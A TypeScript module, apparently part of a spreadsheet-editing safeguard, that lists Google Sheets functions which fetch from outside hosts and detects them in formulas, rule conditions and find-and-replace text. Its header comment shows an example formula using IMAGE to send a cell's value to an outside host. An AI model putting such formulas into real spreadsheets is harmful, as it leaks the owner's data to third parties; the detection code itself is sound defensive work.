/**
 * The Sheets functions that fetch from, or reveal to, a host outside the person's account each
 * time the spreadsheet is computed (issue 37): the URL they are given, built from cells or not,
 * is requested by Google's servers, so a formula such as `=IMAGE("https://example.net/?"&A1)`
 * sends A1 to example.net. IMPORTRANGE reads another spreadsheet, which may be anyone's.
 * Sources (Google Docs Editors Help): IMPORTXML answer/3093342, IMPORTDATA answer/3093335,
 * IMPORTHTML answer/3093339, IMPORTFEED answer/3093337, IMAGE answer/3093333, IMPORTRANGE
 * answer/3093340 (support.google.com/docs/answer/…).
 */
export const FETCH_FUNCTIONS = [
  'IMPORTXML',
  'IMPORTDATA',
  'IMPORTHTML',
  'IMPORTFEED',
  'IMAGE',
  'IMPORTRANGE',
] as const;
export type FetchFunction = (typeof FETCH_FUNCTIONS)[number];

// A name as a whole word (not MYIMAGE, not IMAGE_1): what Sheets would call.
const CALLED = new RegExp(`(?<![A-Z0-9_.])(${FETCH_FUNCTIONS.join('|')})\\s*\\(`, 'gi');
const NAMED = new RegExp(`(?<![A-Z0-9_.])(${FETCH_FUNCTIONS.join('|')})(?![A-Z0-9_])`, 'gi');
const URL_HOST = /https?:\/\/([^/?#"'\s:]+)/gi;

/** What one piece of text would fetch: the functions it calls and the hosts it names literally. */
export interface FetchUse {
  functions: FetchFunction[];
  /** Hosts written in the text; a URL built from cells or elsewhere has none. */
  hosts: string[];
}

/** The fetch functions a formula (a value starting with `=`) calls; undefined when it calls none. */
export function fetchesInFormula(value: string): FetchUse | undefined {
  if (!value.trimStart().startsWith('=')) return undefined;
  return uses(value, CALLED);
}

/**
 * The fetch functions a rule condition's text calls (`CUSTOM_FORMULA =…`, `NUMBER_GREATER =A1`):
 * a formula from its first `=` on.
 */
export function fetchesInCondition(condition: string): FetchUse | undefined {
  const start = condition.indexOf('=');
  return start < 0 ? undefined : uses(condition.slice(start), CALLED);
}

/**
 * The fetch functions a find-and-replace replacement may bring into formulas: a name alone is
 * enough (`SUM` → `IMAGE` turns `=SUM(A1)` into `=IMAGE(A1)`).
 */
export function fetchesInReplacement(replacement: string): FetchUse | undefined {
  return uses(replacement, NAMED);
}

function uses(text: string, pattern: RegExp): FetchUse | undefined {
  const functions = new Set<FetchFunction>();
  for (const match of text.matchAll(pattern)) functions.add(match[1]!.toUpperCase() as FetchFunction);
  if (functions.size === 0) return undefined;
  const hosts = new Set<string>();
  for (const match of text.matchAll(URL_HOST)) hosts.add(match[1]!.toLowerCase());
  return { functions: [...functions], hosts: [...hosts] };
}
